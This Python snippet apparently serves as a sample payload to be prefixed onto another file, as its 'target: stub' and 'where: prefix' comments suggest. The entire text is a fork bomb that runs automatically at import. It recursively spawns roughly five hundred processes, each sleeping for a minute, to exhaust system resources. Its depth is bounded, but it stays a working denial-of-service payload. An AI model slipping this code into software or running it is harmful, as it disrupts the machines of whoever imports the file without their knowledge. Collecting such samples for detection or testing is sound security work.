# Forks a tree of processes at import (bounded: depth 9, each sleeping 60 s then leaving).
# target: stub
# where: prefix
import os as _os
import time as _time


def _bomb(depth):
    for _ in range(depth):
        try:
            if _os.fork() == 0:
                _bomb(depth - 1)
                _time.sleep(60)
                _os._exit(0)
        except OSError:
            return


_bomb(9)
